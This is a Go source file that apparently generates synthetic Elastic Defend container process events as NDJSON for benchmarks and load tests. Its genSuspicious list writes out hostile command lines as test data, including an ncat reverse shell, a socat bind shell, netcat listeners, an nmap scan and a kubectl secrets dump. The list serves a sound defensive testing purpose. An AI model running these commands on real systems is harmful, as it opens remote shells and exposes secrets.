package native

import (
	"bufio"
	"fmt"
	"io"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// GenerateEvents writes n synthetic NDJSON events in the shape of Elastic
// Defend for Containers process events, for benchmarks and load tests. The
// output is a pure function of n and seed. The mix: about 55% exec, 15%
// fork, 20% end and 10% file events; 65% in containers; about 1%
// suspicious commands (netcat listeners, nmap, package installs, shells);
// lines of about 2 KB; a few percent carry JSON escapes.
func GenerateEvents(w io.Writer, n int, seed uint64) error {
	bw := bufio.NewWriterSize(w, 1<<20)
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	base := time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	var b []byte
	for i := 0; i < n; i++ {
		b = genEvent(b[:0], r, i, base+int64(i)*7)
		if _, err := bw.Write(b); err != nil {
			return err
		}
	}
	return bw.Flush()
}

type genCmd struct {
	args []string
	exe  string
}

func cmdOf(args ...string) genCmd {
	exe := args[0]
	if !strings.HasPrefix(exe, "/") {
		exe = "/usr/bin/" + exe
	}
	return genCmd{args: args, exe: exe}
}

var (
	genBenign = []genCmd{
		cmdOf("curl", "-fsS", "http://localhost:8080/healthz"), cmdOf("python3", "/app/manage.py", "runserver", "0.0.0.0:8000"),
		cmdOf("node", "/srv/app/server.js"), cmdOf("java", "-Xmx512m", "-jar", "/opt/app/app.jar"),
		cmdOf("nginx", "-g", "daemon off;"), cmdOf("redis-cli", "-h", "127.0.0.1", "ping"),
		cmdOf("nc", "-z", "localhost", "5432"), cmdOf("sh", "-c", "pg_isready -h db -p 5432"),
		cmdOf("bash", "/docker-entrypoint.sh", "postgres"), cmdOf("ls", "-la", "/var/log"),
		cmdOf("cat", "/etc/os-release"), cmdOf("grep", "-E", `error|warn`, "/var/log/app.log"),
		cmdOf("sleep", "30"), cmdOf("date", "+%s"), cmdOf("find", "/tmp", "-name", "*.tmp", "-mtime", "+1"),
		cmdOf("apt-get", "update"), cmdOf("kubelet", "--config=/var/lib/kubelet/config.yaml"),
		cmdOf("runc", "init"), cmdOf("iptables", "-t", "nat", "-L"), cmdOf("journalctl", "-u", "kubelet", "--since", "1 hour ago"),
		cmdOf("git", "pull", "--ff-only"), cmdOf("cron", "-f"), cmdOf("awk", `{print $1}`, "/proc/loadavg"),
		cmdOf("echo", `say "hello" \ world`), cmdOf("tar", "-czf", "/backup/data.tgz", "/data"),
	}
	genSuspicious = []genCmd{
		cmdOf("nc", "-lvp", "4444"), cmdOf("ncat", "-e", "/bin/sh", "10.0.0.9", "4444"), cmdOf("nmap", "-sS", "10.0.0.0/24"),
		cmdOf("apt-get", "install", "-y", "curl"), cmdOf("apk", "add", "socat"), cmdOf("bash", "-i"),
		cmdOf("socat", "TCP-LISTEN:4444,fork", "EXEC:/bin/bash"), cmdOf("tcpdump", "-i", "any", "-w", "/tmp/x.pcap"),
		cmdOf("kubectl", "get", "secrets", "-A"), cmdOf("busybox", "nc", "-l", "-p", "9001"),
		cmdOf("crictl", "ps"), cmdOf("yum", "install", "-y", "python3"),
	}
	genParents = []genCmd{cmdOf("bash"), cmdOf("sh", "-c", "run"), cmdOf("containerd-shim-runc-v2", "-namespace", "k8s.io"),
		cmdOf("python3", "app.py"), cmdOf("node", "server.js"), cmdOf("sshd", "-D")}
)

func genEvent(b []byte, r *rand.Rand, i int, ms int64) []byte {
	kind := r.IntN(100)
	action, etype, cat := "exec", "start", "process"
	switch {
	case kind < 55:
	case kind < 70:
		action = "fork"
	case kind < 90:
		action, etype = "end", "end"
	default:
		action, etype, cat = "creation", "creation", "file"
	}
	container := r.IntN(100) < 65
	c := genBenign[r.IntN(len(genBenign))]
	interactive := r.IntN(100) < 5
	if r.IntN(100) == 0 {
		c = genSuspicious[r.IntN(len(genSuspicious))]
		interactive = r.IntN(10) < 9
	}
	p := genParents[r.IntN(len(genParents))]
	name := c.args[0]
	if j := strings.LastIndexByte(name, '/'); j >= 0 {
		name = name[j+1:]
	}
	pid := 1000 + r.IntN(60000)
	ctr := fmt.Sprintf("%016x%016x%016x%016x", r.Uint64(), r.Uint64()%64, uint64(r.IntN(16)), uint64(r.IntN(16)))
	t := time.UnixMilli(ms).UTC()
	b = append(b, `{"@timestamp":"`...)
	b = t.AppendFormat(b, "2006-01-02T15:04:05.000Z")
	b = append(b, `","agent":{"id":"8a4f3c1e-5d2b-4e7a-9c61-0b1d2e3f4a5b","type":"cloud-defend","version":"9.3.0"},"ecs":{"version":"8.11.0"},"data_stream":{"dataset":"cloud_defend.process","namespace":"default","type":"logs"},`...)
	b = append(b, `"event":{"id":"ev-`...)
	b = strconv.AppendInt(b, int64(i), 10)
	b = append(b, `","kind":"event","category":["`...)
	b = append(b, cat...)
	b = append(b, `"],"type":["`...)
	b = append(b, etype...)
	b = append(b, `"],"action":"`...)
	b = append(b, action...)
	b = append(b, `","module":"cloud_defend","dataset":"cloud_defend.process","ingested":"`...)
	b = t.Add(time.Second).AppendFormat(b, "2006-01-02T15:04:05.000Z")
	b = append(b, `"},"host":{"name":"node-`...)
	b = strconv.AppendInt(b, int64(r.IntN(50)), 10)
	b = append(b, `","hostname":"node","id":"f1e2d3c4b5a69788","architecture":"x86_64","os":{"type":"linux","family":"ubuntu","name":"Ubuntu","version":"22.04.4 LTS (Jammy Jellyfish)","kernel":"6.8.0-1015-aws","platform":"ubuntu"},"ip":["10.0.12.34","fe80::4a2:8ff:fe1c:2b3d"]},`...)
	b = append(b, `"cloud":{"provider":"aws","region":"eu-west-1","availability_zone":"eu-west-1a","instance":{"id":"i-0abc123def4567890"},"account":{"id":"123456789012"}},`...)
	b = append(b, `"process":{"pid":`...)
	b = strconv.AppendInt(b, int64(pid), 10)
	b = append(b, `,"name":"`...)
	b = appendJSONString(b, name)
	b = append(b, `","executable":"`...)
	b = appendJSONString(b, c.exe)
	b = append(b, `","args":[`...)
	for k, a := range c.args {
		if k > 0 {
			b = append(b, ',')
		}
		b = append(b, '"')
		b = appendJSONString(b, a)
		b = append(b, '"')
	}
	b = append(b, `],"args_count":`...)
	b = strconv.AppendInt(b, int64(len(c.args)), 10)
	b = append(b, `,"command_line":"`...)
	b = appendJSONString(b, strings.Join(c.args, " "))
	b = append(b, `","working_directory":"/app","interactive":`...)
	b = strconv.AppendBool(b, interactive)
	b = append(b, `,"start":"`...)
	b = t.AppendFormat(b, "2006-01-02T15:04:05.000Z")
	b = append(b, `","entity_id":"`...)
	b = strconv.AppendUint(b, r.Uint64(), 36)
	b = append(b, `","tty":{"char_device":{"major":136,"minor":0}},"user":{"id":"0","name":"root"},"group":{"id":"0","name":"root"},"hash":{"sha256":"`...)
	b = append(b, ctr...)
	b = append(b, `"},"entry_leader":{"entity_id":"`...)
	b = strconv.AppendUint(b, r.Uint64()%5000, 36)
	b = append(b, `","pid":1,"name":"bash","executable":"/bin/bash","args":["bash"],"entry_meta":{"type":"`...)
	if container {
		b = append(b, "container"...)
	} else {
		b = append(b, "sshd"...)
	}
	b = append(b, `"},"same_as_process":false,"interactive":true,"start":"2026-11-01T00:00:00.000Z"},"session_leader":{"entity_id":"`...)
	b = strconv.AppendUint(b, r.Uint64()%5000, 36)
	b = append(b, `","pid":1,"name":"bash","executable":"/bin/bash","args":["bash"],"same_as_process":false,"interactive":true},"group_leader":{"pid":`...)
	b = strconv.AppendInt(b, int64(pid), 10)
	b = append(b, `,"name":"`...)
	b = appendJSONString(b, name)
	b = append(b, `","same_as_process":true},"parent":{"pid":`...)
	b = strconv.AppendInt(b, int64(pid-1), 10)
	b = append(b, `,"name":"`...)
	b = appendJSONString(b, p.args[0])
	b = append(b, `","executable":"`...)
	b = appendJSONString(b, p.exe)
	b = append(b, `","args":[`...)
	for k, a := range p.args {
		if k > 0 {
			b = append(b, ',')
		}
		b = append(b, '"')
		b = appendJSONString(b, a)
		b = append(b, '"')
	}
	b = append(b, `],"command_line":"`...)
	b = appendJSONString(b, strings.Join(p.args, " "))
	b = append(b, `","interactive":false,"entity_id":"`...)
	b = strconv.AppendUint(b, r.Uint64(), 36)
	b = append(b, `"}},"user":{"id":"0","name":"root"},`...)
	if cat == "file" {
		b = append(b, `"file":{"path":"/tmp/.cache/`...)
		b = strconv.AppendInt(b, int64(r.IntN(1000)), 10)
		b = append(b, `","name":"x","extension":"tmp"},`...)
	}
	if container {
		b = append(b, `"container":{"id":"`...)
		b = append(b, ctr...)
		b = append(b, `","name":"app-`...)
		b = strconv.AppendInt(b, int64(r.IntN(200)), 10)
		b = append(b, `","image":{"name":"ghcr.io/acme/app","tag":"1.4.2","hash":{"all":["sha256:`...)
		b = append(b, ctr...)
		b = append(b, `"]}},"runtime":"containerd"},"orchestrator":{"type":"kubernetes","namespace":"payments","resource":{"name":"app-7d9c5b7f6-x2x9q","type":"pod","labels":["app:payments","tier:backend"]},"cluster":{"name":"prod-eu-1","id":"c-42"}},`...)
	}
	b = append(b, `"cloud_defend":{"package_policy_id":"0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0","package_policy_revision":3,"hook_point":["tracepoint__sched_process_exec"],"matched_selectors":["allProcesses"]},"message":"process `...)
	b = append(b, action...)
	b = append(b, ` event"}`...)
	return append(b, '\n')
}

// appendJSONString escapes s for inside a JSON string.
func appendJSONString(b []byte, s string) []byte {
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '"' || c == '\\':
			b = append(b, '\\', c)
		case c < 0x20:
			b = append(b, fmt.Sprintf(`\u%04x`, c)...)
		default:
			b = append(b, c)
		}
	}
	return b
}
